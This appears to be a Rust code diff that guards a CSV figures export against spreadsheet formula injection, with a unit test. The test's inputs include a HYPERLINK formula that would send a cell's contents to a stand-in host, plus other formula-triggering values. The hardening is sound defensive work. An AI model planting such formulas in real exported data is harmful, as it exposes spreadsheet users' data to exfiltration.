@@ -20,6 +20,17 @@ pub fn measure_labels(audit: &crate::check::Audit) -> std::collections::BTreeMap
     labels
 }
 
+/// `text` as a spreadsheet reads it as text: one starting with `=`, `+`, `-`, `@`, a tab or
+/// a carriage return would be run as a formula (`=HYPERLINK(…)` in a chart title), so it
+/// gets an apostrophe in front, as a spreadsheet writes one.
+fn as_text(text: &str) -> std::borrow::Cow<'_, str> {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        format!("'{text}").into()
+    } else {
+        text.into()
+    }
+}
+
 /// Figures as CSV: one row per scope, measure and option. Without an edition, every collated
 /// figure for all cases, each case and each agency (internal). For an edition, exactly the
 /// measures it shows, all cases together, as it shows them (withheld figures read
@@ -66,10 +77,11 @@ pub fn figures_csv(
                     (Shown::Count(c), Shown::Count(b)) => crate::document::words::percent(*c, b),
                     _ => crate::document::words::WITHHELD.to_string(),
                 };
+                let (scope, label) = (as_text(&scope), as_text(label));
                 let row = [
-                    scope.as_str(),
+                    scope.as_ref(),
                     measure,
-                    label,
+                    label.as_ref(),
                     option,
                     &shown(*count),
                     &shown(tally.base),
@@ -80,4 +92,20 @@ pub fn figures_csv(
         }
     }
     out.into_inner().unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    /// A label that a spreadsheet would run as a formula is written as text.
+    #[test]
+    fn a_formula_in_a_label_is_written_as_text() {
+        assert_eq!(
+            super::as_text("=HYPERLINK(\"http://x/?\"&A1,\"click\")"),
+            "'=HYPERLINK(\"http://x/?\"&A1,\"click\")"
+        );
+        for risky in ["+1", "-1+A1", "@SUM(A1)", "\tx", "\rx"] {
+            assert!(super::as_text(risky).starts_with('\''), "{risky:?}");
+        }
+        assert_eq!(super::as_text("Supervision (q2)"), "Supervision (q2)");
+    }
 }
